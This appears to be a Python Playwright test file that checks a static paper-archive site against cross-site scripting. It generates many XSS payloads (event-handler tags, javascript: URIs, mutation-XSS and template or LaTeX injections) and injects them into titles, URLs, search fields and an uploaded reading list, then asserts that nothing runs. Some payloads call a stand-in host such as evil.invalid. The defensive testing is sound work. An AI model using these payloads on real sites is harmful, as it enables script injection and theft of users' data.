"""Script injections wherever text comes in: captures, addresses, searches, the reading list, configuration.

The strings are combined from what attacks are made of. The browser ignores each page's policy here: nothing may run
because everything is escaped. By hand, `INJECTIONS=5000` and `--timeout 0` try as many, and open every page.
"""

from __future__ import annotations

import datetime as dt
import html
import itertools
import json
import os
import random
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect

from generator.settings import Settings
from tests.archives import Site, capture, lay_out, run_mkdocs
from tests.conftest import Visit, opened, served
from tests.searching import wait_for_answer

COUNT = int(os.environ.get("INJECTIONS", "160"))
THOROUGH = "INJECTIONS" in os.environ
PER_DAY = 40

_CODE = [
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "window.ran=1", "fetch('//evil.invalid/')", "(0,eval)('alert(1)')",
    "import('//evil.invalid/x.js')", "new Image().src='//evil.invalid/'", "location='//evil.invalid/'", "print()",
]  # fmt: skip
_TAGS = [
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x",
    "object data=x", "select autofocus", "textarea autofocus", "style", "marquee", "math", "a href=# autofocus",
    "button autofocus", "x-y tabindex=0 autofocus", "form", "image src=x", "link rel=stylesheet href=x",
    "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "embed src=x",
]  # fmt: skip
_EVENTS = [
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onpageshow", "onanimationstart", "onloadstart",
    "onmouseover", "oncontentvisibilityautostatechange", "ONERROR",
]  # fmt: skip
_WHOLE = [
    "<script>{}</script>", "<script src=//evil.invalid/x.js></script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>", "<svg><script href=//evil.invalid/x.js /></svg>", "<script\x0c>{}</script\x0c>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href='java&Tab;script:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<form action=javascript:{}><button>",
    "<object data='data:text/html,<script>{}</script>'>", "<embed src=javascript:{}>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content=0;//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<style>@import '//evil.invalid/x.css';</style>",
    "<img src=//evil.invalid/x.png>", "<img srcset='//evil.invalid/x.png'>",
    "<div style=background:url(//evil.invalid/)>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<textarea><img title='</textarea><img src=x onerror={}>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'>", "<math href=javascript:{}>x</math>",
    "[x](javascript:{})", "![x](x 'onerror={}')", "<javascript:{}>", "[x]: javascript:{}", "[x](data:text/html,{})",
    "{{{{ {} }}}}", "{{% raw %}}{}", "${{{}}}", "#{{{}}}", "<%= {} %>", "--8<-- '{}'", "!!python/name:{}",
    "- {{x: {}}}", "$\\href{{javascript:{}}}{{x}}$", "\\href{{javascript:{}}}{{x}}",
    "$\\text{{<img src=x onerror={}>}}$", "$\\style{{onload:{}}}{{x}}$", "$x<script>{}</script>$",
    "\\url{{javascript:{}}}", "\\textbf{{<img src=x onerror={}>}}", "http://x.org/\"onclick=\"{}",
    "http://x.org/'><script>{}</script>", "https://evil@x.org/<svg onload={}>", "javascript:{}", "JaVaScRiPt:{}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "';{};'", "\";{};//",
]  # fmt: skip
_BEFORE = [
    "", '"', "'", '">', "'>", "</title>", "</h1>", "</script>", "</style>", "</textarea>", "</template>", "-->",
    "]]>", "</math>", "</a>", "\\", "`", "*/", "&quot;&gt;", "</noscript>", "<!--", "</option></select>", "</bdi>",
    "\u2028", "%22%3E", '"}]}', "</dialog>",
]  # fmt: skip
_SEPARATORS = [" ", "/", "\x0c", "//", "\u00a0", " x=x "]
_QUOTES = ["", '"', "'", "`"]
_FORMS: list[Callable[[str], str]] = [
    str, str, str, str, str.upper, str.swapcase, html.escape, quote,
    lambda text: "".join(f"&#{ord(one)};" for one in text), lambda text: json.dumps(text.replace("<", "\\u003c")),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"), lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("script", "s\u017fcript"), lambda text: text.replace(">", ""),
    lambda text: text + "\u202e",
]  # fmt: skip


def injections(count: int) -> list[str]:
    """So many different ones, each on one line: every vector before any comes again."""
    chance = random.Random(1)  # noqa: S311
    tags = [f"<{tag}{{}}{event}={{}}{{code}}{{}}>" for tag, event in itertools.product(_TAGS, _EVENTS)]
    chance.shuffle(tags)
    vectors = itertools.cycle(
        itertools.chain.from_iterable(itertools.zip_longest(tags, _WHOLE * 3, fillvalue=_WHOLE[0]))
    )
    found: dict[str, None] = {}
    for vector in vectors:
        code, quoted = chance.choice(_CODE), chance.choice(_QUOTES)
        if "{code}" in vector:
            made = vector.format(chance.choice(_SEPARATORS), quoted, quoted, code=code)
        else:
            made = vector.format(code)
        text = chance.choice(_FORMS)(chance.choice(_BEFORE) + made)
        found[" ".join(text.split())] = None
        if len(found) == count:
            return list(found)
    raise AssertionError


PAYLOADS = injections(COUNT)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A site whose titles, abstracts, topics, aliases and name are injections."""
    place = tmp_path_factory.mktemp("hostile")
    digests = place / "digests"
    digests.mkdir()
    parts = [PAYLOADS[first : first + PER_DAY] for first in range(0, COUNT, PER_DAY)]
    names = []
    for number, part in enumerate(parts):
        texts = [text for one in part for text in (one, f"{one} Then {one}, which is {number}.")]
        day = dt.date(2025, 1, 1) + dt.timedelta(number)
        names.append(f"{day}.txt")
        (digests / names[-1]).write_text(capture(f"{day:%b} {day.day}", *texts), encoding="utf-8")
    topics = [
        {"id": f"t-{n}", "name": one, "meaning": one, "points": {50: ["src"]}} for n, one in enumerate(PAYLOADS[:20])
    ]
    aliases = {f"Old {one}": one for one in PAYLOADS[::20]}
    # JSON is YAML.
    (place / "topics.yml").write_text(
        json.dumps({"areas": [{"name": PAYLOADS[0], "topics": topics}]}), encoding="utf-8"
    )
    (place / "archive.yml").write_text(json.dumps({"verbatim": names, "aliases": aliases}), encoding="utf-8")
    archive = lay_out(place, Settings(digests, config=place / "archive.yml", topics=place / "topics.yml"))
    config = place / "mkdocs.yml"
    lines = config.read_text(encoding="utf-8").splitlines()
    named = {"site_name": NAME, "site_description": NAME}
    lines = [f"{key}: {json.dumps(named[key])}" if (key := line.partition(":")[0]) in named else line for line in lines]
    config.write_text("\n".join(lines), encoding="utf-8")
    return Site(run_mkdocs(place), archive)


NAME = " ".join(PAYLOADS[5:9]) + "\"'><img src=x onerror=alert(1)></title><script>alert(1)</script>"


@pytest.fixture
def visit(chromium: Browser, hostile: Site) -> Iterator[Visit]:
    """A reader whose browser ignores policies, and who must hear and see nothing of it."""
    with served(hostile.folder) as base, opened(chromium, bypass_csp=True) as page:
        visit = Visit(page, base)
        yield visit
        assert not page.evaluate("window.ran")
    assert visit.noise == []


# The theme's own elements have none of this either.
_DANGEROUS = """() => {
  const OURS = /(search.page|compare.compare|trends.order|list.abstracts)[.]js$/;
  const elements = [...document.querySelectorAll("*")];
  const found = [
    ...[...document.links].filter(({ href }) => !/^https?:/.test(href)),
    ...[...document.forms].filter((form) => !/^https?:/.test(form.getAttribute("action") ? form.action : "http:")),
    ...elements.filter((one) => one.getAttributeNames().some((name) => /^(on|style$|srcdoc$|formaction$)/i.test(name))),
    ...document.querySelectorAll("base, object, embed, iframe, frame, svg script, meta[http-equiv=refresh i]"),
    ...document.querySelectorAll("main :is(img, style, link, meta)"),
    ...[...document.querySelectorAll("main script")].filter(({ src }) => !OURS.test(src)),
  ];
  return found.map((one) => one.outerHTML);
}"""


def expect_harmless(visit: Visit, address: str) -> None:
    visit.go(address)
    assert visit.page.evaluate(_DANGEROUS) == [], address


def test_injections_are_many_and_differ() -> None:
    assert len(set(PAYLOADS)) == COUNT
    assert len(injections(2_000)) == 2_000
    assert sum("evil.invalid" in one for one in injections(2_000)) > 200


def leads_on(page: Path) -> bool:
    """Whether a page only leads on to another."""
    return bool(re.search(r"http-equiv=\"?refresh", (page / "index.html").read_text(encoding="utf-8")))


def test_of_captures_and_configuration_nothing_runs(visit: Visit, hostile: Site) -> None:
    assert len(hostile.archive.papers) > COUNT * 0.9  # some differ only in what a title's identity drops
    former = {permalink for paper in hostile.archive.papers for permalink in paper.former_permalinks}
    assert former
    pages = sorted(file.parent.relative_to(hostile.folder).as_posix() for file in hostile.folder.rglob("index.html"))
    papers = [page for page in pages if page.startswith("papers/") and page.rpartition("/")[2] not in former]
    others = [page for page in pages if not page.startswith("papers/") and not leads_on(hostile.folder / page)]
    for page in [*others, *(papers if THOROUGH else papers[::8])]:
        expect_harmless(visit, "" if page == "." else f"{page}/")
    for one in sorted(former)[: None if THOROUGH else 3]:
        visit.go(f"papers/{one}/")  # leads on by itself
        visit.page.wait_for_url(lambda url: "/papers/" in url and url.rstrip("/").rpartition("/")[2] not in former)


def test_the_site_s_name_is_text(visit: Visit) -> None:
    for address in ("", "days/", "about/", "404.html"):
        page = visit.go(address)
        assert " ".join(page.title().split()).endswith(" ".join(NAME.split())), address
        expect(page.locator(".da-name")).to_have_text(NAME)
    assert visit.go().locator("meta[name=description]").get_attribute("content") == NAME


def test_of_addresses_and_questions_nothing_runs(visit: Visit) -> None:
    page = visit.page
    some = PAYLOADS if THOROUGH else PAYLOADS[::12]
    for number, one in enumerate(some):
        coded = quote(one, safe="")
        address = [
            f"search/?q={coded}", f"search/?q={coded}&topic={coded}&period={coded}&sort={coded}", f"list/#add={coded}",
            f"days/2025/01/01/?{coded}#{coded}", f"list/?{coded}", f"search/?q=a#{one}", f"days/2025/01/01/#{one}",
        ][number % 7]  # fmt: skip
        visit.go(address)
        if address.startswith("search/"):
            wait_for_answer(page)
        assert page.evaluate(_DANGEROUS) == [], address
    visit.go("search/")
    for one in some:
        page.locator("#da-query").fill(one)
        page.wait_for_timeout(20)
    wait_for_answer(page)
    assert page.evaluate(_DANGEROUS) == []
    visit.go("days/2025/01/01/")
    page.keyboard.press("/")
    for one in some:
        page.locator(".md-search__input").fill(one)
        page.wait_for_timeout(20)
    assert page.evaluate(_DANGEROUS) == []


def test_of_a_reading_list_nothing_runs(visit: Visit, tmp_path: Path) -> None:
    visit.page.route(re.compile("/papers/"), lambda route: route.fulfill(body="", content_type="text/html"))
    page = visit.go("list/")
    papers = [{"paper": f"paper-{n}", "title": one, "note": one, "since": one} for n, one in enumerate(PAYLOADS)]
    papers += [{"paper": one, "title": "A paper", "note": "", "since": ""} for one in PAYLOADS]
    file = tmp_path / "list.json"
    said = {"format": "digest-archive reading list", "version": 1, "papers": papers, "days": PAYLOADS}
    file.write_text(json.dumps(said), encoding="utf-8")
    page.locator("#da-list-file").set_input_files(file)
    odd = f"What could not be read was left out ({2 * COUNT})."
    expect(page.locator(".da-told")).to_have_text(f"Added {COUNT:,} papers and 0 days. {odd}")
    shown = page.locator("#da-list-papers > li")
    expect(shown).to_have_count(COUNT)
    assert shown.locator("h2 a").all_text_contents() == PAYLOADS
    assert shown.locator("textarea").evaluate_all("fields => fields.map((field) => field.value)") == PAYLOADS
    for address in ("list/", "days/2025/01/01/", ""):
        expect_harmless(visit, address)
